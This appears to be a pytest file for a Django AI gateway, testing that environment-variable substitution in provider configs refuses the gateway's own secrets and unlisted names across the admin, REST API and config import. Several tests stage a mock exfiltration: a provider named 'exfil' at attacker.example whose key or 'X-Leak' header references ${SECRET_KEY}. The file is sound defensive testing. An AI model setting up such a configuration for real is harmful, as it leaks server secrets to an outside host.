"""``${VAR}`` never resolves the gateway's own settings, can be narrowed to an allow-list, and
the admin, the REST API and config import refuse the same references with the same message."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from cryptography.fernet import Fernet
from django.conf import settings
from django.test import Client
from django.test.utils import override_settings

from gateway.config_io.errors import ConfigError
from gateway.config_io.importer import config_import
from providers.envsubst import MissingEnvVar, RefusedEnvVar, refusal, substitute
from providers.models import Provider, ProviderKeyCredential
from providers.services import provider_save
from providers.snapshot import provider_snapshots_all
from tests.admin_helpers import admin_form_data, admin_url, page_errors
from tests.reports.helpers import all_gateway_permissions, token_client

pytestmark = pytest.mark.django_db

OWN_SETTINGS = ["SECRET_KEY", "FIELD_ENCRYPTION_KEYS", "DATABASE_URL", "REDIS_URL"]
REFUSED_SECRET = (
    "environment variable SECRET_KEY may not be referenced: it is a setting of the gateway itself"
)


# --- the policy ------------------------------------------------------------------------------


@pytest.mark.parametrize("name", [*OWN_SETTINGS, "LOG_LEVEL", "CELERY_BROKER_URL", "DEBUG"])
def test_the_gateways_own_settings_never_resolve(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(name, "top-secret-value")
    with pytest.raises(RefusedEnvVar) as exc:
        substitute("${" + name + "}")
    assert exc.value.name == name and "top-secret-value" not in str(exc.value)


@pytest.mark.parametrize(
    "name", ["DJANGO_SETTINGS_MODULE", "PYTHONPATH", "LD_PRELOAD", "PGPASSWORD", "PATH"]
)
def test_process_internals_never_resolve(name: str) -> None:
    with pytest.raises(RefusedEnvVar):
        substitute("${" + name + "}", {name: "x"})


def test_settings_list_is_derived_from_the_settings_module(tmp_path: Path) -> None:
    """Every variable the settings module reads is refused: the list is filled by its env
    helpers as they read, so a new setting cannot be forgotten."""
    # The settings module and its Redis helper (gateway/redis_env.py), which reads for it.
    source = "".join(
        Path(settings.BASE_DIR, "gateway", name).read_text()
        for name in ("settings.py", "redis_env.py")
    )
    read = set(re.findall(r"\benv(?:str|bool|int|float|list|secret)\(\s*\"([A-Z0-9_]+)\"", source))
    read |= set(re.findall(r"\benv\.\w+\(\s*\"([A-Z0-9_]+)\"", source))
    assert {"SECRET_KEY", "FIELD_ENCRYPTION_KEYS", "DATABASE_URL", "REDIS_URL"} <= read
    # Some settings are read only with DEBUG off: load the module that way too.
    env = {
        "PATH": os.environ.get("PATH", ""),
        "DEBUG": "0",
        "SECRET_KEY": "x" * 50,
        "FIELD_ENCRYPTION_KEYS": Fernet.generate_key().decode(),
        "GATEWAY_STATE_DIR": str(tmp_path),
    }
    out = subprocess.run(
        [
            sys.executable,
            "-c",
            "import gateway.settings as s; print(' '.join(s.GATEWAY_SETTINGS_ENV_NAMES))",
        ],
        env=env,
        cwd=settings.BASE_DIR,
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()
    recorded = set(settings.GATEWAY_SETTINGS_ENV_NAMES) | set(out)
    assert read <= recorded, read - recorded
    assert {f"{n}_FILE" for n in read} <= recorded
    # Nothing in the settings module reads the environment past the helpers.
    assert "os.environ" not in source and "getenv" not in source


def test_usual_provider_variables_resolve_without_an_allow_list() -> None:
    env = {"OPENAI_API_KEY": "sk-o", "AZURE_OPENAI_API_KEY": "az-k"}
    assert substitute("${OPENAI_API_KEY}", env) == "sk-o"
    assert substitute("${AZURE_OPENAI_API_KEY}", env) == "az-k"
    with pytest.raises(MissingEnvVar):
        substitute("${NOT_SET_ANYWHERE_42}", env)


@override_settings(GATEWAY_ENV_ALLOW=["OPENAI_*", "COST_CENTER", "SECRET_KEY"])
def test_allow_list_narrows_names_and_prefixes() -> None:
    env = {
        "OPENAI_API_KEY": "a",
        "COST_CENTER": "b",
        "AZURE_OPENAI_API_KEY": "c",
        "SECRET_KEY": "s",
    }
    assert substitute("${OPENAI_API_KEY}/${COST_CENTER}", env) == "a/b"
    with pytest.raises(RefusedEnvVar, match="not in GATEWAY_ENV_ALLOW"):
        substitute("${AZURE_OPENAI_API_KEY}", env)
    # Listing one of the gateway's own settings does not open it.
    assert refusal("SECRET_KEY") == "it is a setting of the gateway itself"


# --- the same refusal and message through every door ------------------------------------------


def _import(provider: dict[str, Any]) -> list[str]:
    with pytest.raises(ConfigError) as exc:
        config_import(data={"providers": [provider]})
    return exc.value.errors


def test_refused_reference_same_message_in_api_admin_and_import(
    admin_client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SECRET_KEY", "django-insecure-value")
    # REST API
    api = token_client(staff=True, perms=all_gateway_permissions())
    r = api.post(
        "/api/providers/",
        {
            "name": "exfil",
            "provider_type": "openai_compatible",
            "base_url": "https://attacker.example/v1",
            "keys": [{"key_name": "k", "api_key": "${SECRET_KEY}"}],
        },
        format="json",
    )
    assert r.status_code == 400 and REFUSED_SECRET in r.content.decode()
    assert "django-insecure-value" not in r.content.decode()
    # Config import
    errors = _import(
        {
            "name": "exfil",
            "type": "openai_compatible",
            "base_url": "https://attacker.example/v1",
            "keys": [{"name": "k", "api_key": "${SECRET_KEY}"}],
        }
    )
    assert any(e.endswith(f"keys[0].api_key: {REFUSED_SECRET}") for e in errors), errors
    # Admin
    url = admin_url(Provider, "add")
    data = admin_form_data(admin_client, url, Provider)
    data.update(
        name="exfil",
        provider_type="openai_compatible",
        base_url="https://attacker.example/v1",
        custom_headers='{"X-Leak": "${SECRET_KEY}"}',
    )
    response = admin_client.post(url, data)
    assert response.status_code == 200
    assert f"X-Leak: {REFUSED_SECRET}" in str(page_errors(response))
    assert not Provider.objects.exists()


def test_unset_header_reference_is_refused_by_admin_api_and_import_alike(
    admin_client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("GW_PARITY_UNSET", raising=False)
    message = "X-Team: environment variable GW_PARITY_UNSET is not set"
    # Admin (accepted it before: references were not checked there)
    provider = Provider.objects.create(name="parity", provider_type="mock")
    url = admin_url(Provider, "change", provider.pk)
    data = admin_form_data(admin_client, url, Provider)
    data["custom_headers"] = '{"X-Team": "${GW_PARITY_UNSET}"}'
    response = admin_client.post(url, data)
    assert response.status_code == 200 and message in str(page_errors(response))
    provider.refresh_from_db()
    assert provider.custom_headers == {}
    # REST API
    api = token_client(staff=True, perms=all_gateway_permissions())
    r = api.patch(
        f"/api/providers/{provider.pk}/",
        {"custom_headers": {"X-Team": "${GW_PARITY_UNSET}"}},
        format="json",
    )
    assert r.status_code == 400 and message in r.content.decode()
    # Import
    errors = _import(
        {"name": "parity", "type": "mock", "custom_headers": {"X-Team": "${GW_PARITY_UNSET}"}}
    )
    assert any(message.split(": ", 1)[1] in e and "X-Team" in e for e in errors), errors


def test_admin_refuses_unset_key_reference_on_the_key_row(
    admin_client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("GW_PARITY_KEY", raising=False)
    provider = Provider.objects.create(name="parity-key", provider_type="openai")
    url = admin_url(Provider, "change", provider.pk)
    data = admin_form_data(admin_client, url, Provider)
    data["keys-TOTAL_FORMS"] = "1"
    data.update({"keys-0-key_name": "k", "keys-0-api_key": "${GW_PARITY_KEY}"})
    data.update({"keys-0-account_group": "0", "keys-0-is_enabled": "on"})
    response = admin_client.post(url, data)
    assert response.status_code == 200
    assert "environment variable GW_PARITY_KEY is not set" in response.content.decode()
    assert not ProviderKeyCredential.objects.exists()


def test_imports_written_as_people_write_them_keep_working(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-openai-0123456789")
    monkeypatch.setenv("AZURE_OPENAI_API_KEY", "azure-0123456789")
    config_import(
        data={
            "providers": [
                {
                    "name": "o",
                    "type": "openai",
                    "keys": [{"name": "k", "api_key": "${OPENAI_API_KEY}"}],
                },
                {
                    "name": "az",
                    "type": "azure_openai",
                    "base_url": "https://x.openai.azure.com",
                    "api_version": "2024-10-21",
                    "keys": [{"name": "k", "api_key": "${AZURE_OPENAI_API_KEY}"}],
                },
            ]
        }
    )
    snaps = {s.name: s for s in provider_snapshots_all().values()}
    assert snaps["o"].keys[0].api_key == "sk-openai-0123456789" and not snaps["o"].error
    assert snaps["az"].keys[0].api_key == "azure-0123456789" and not snaps["az"].error


# --- route-table build ------------------------------------------------------------------------


def test_a_stored_refused_reference_makes_only_that_instance_unusable(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("SECRET_KEY", "django-insecure-value")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-fine")
    # Written past validation (as a row stored before the policy existed would be).
    bad = Provider(name="old-row", provider_type="openai")
    provider_save(
        provider=bad,
        keys=[ProviderKeyCredential(key_name="k", api_key="${SECRET_KEY}")],
        check_references=False,
    )
    good = Provider(name="fine", provider_type="openai")
    provider_save(
        provider=good, keys=[ProviderKeyCredential(key_name="k", api_key="${OPENAI_API_KEY}")]
    )
    snaps = provider_snapshots_all()
    assert "SECRET_KEY may not be referenced" in snaps[bad.pk].error
    assert all(k.api_key != "django-insecure-value" for k in snaps[bad.pk].keys)
    assert snaps[good.pk].error == "" and snaps[good.pk].keys[0].api_key == "sk-fine"


@override_settings(GATEWAY_ENV_ALLOW=["OPENAI_*"])
def test_allow_list_applies_to_api_and_import_alike(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AZURE_OPENAI_API_KEY", "azure-0123456789")
    message = (
        "environment variable AZURE_OPENAI_API_KEY may not be referenced: "
        "it is not in GATEWAY_ENV_ALLOW"
    )
    errors = _import(
        {
            "name": "o",
            "type": "openai",
            "keys": [{"name": "k", "api_key": "${AZURE_OPENAI_API_KEY}"}],
        }
    )
    assert any(e.endswith(f"keys[0].api_key: {message}") for e in errors), errors
    api = token_client(staff=True, perms=all_gateway_permissions())
    r = api.post(
        "/api/providers/",
        {
            "name": "o",
            "provider_type": "openai",
            "keys": [{"key_name": "k", "api_key": "${AZURE_OPENAI_API_KEY}"}],
        },
        format="json",
    )
    assert r.status_code == 400 and message in r.content.decode()
    assert not Provider.objects.exists()


def test_admin_does_not_rejudge_a_stored_key_nobody_edits(
    admin_client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("GW_STORED_ELSEWHERE", raising=False)
    provider = Provider(name="stored", provider_type="openai")
    provider_save(
        provider=provider,
        keys=[ProviderKeyCredential(key_name="k", api_key="${GW_STORED_ELSEWHERE}")],
        check_references=False,
    )
    url = admin_url(Provider, "change", provider.pk)
    data = admin_form_data(admin_client, url, Provider)
    data["timeout"] = "33"
    response = admin_client.post(url, data)
    assert response.status_code == 302, page_errors(response)
    provider.refresh_from_db()
    assert provider.timeout == 33
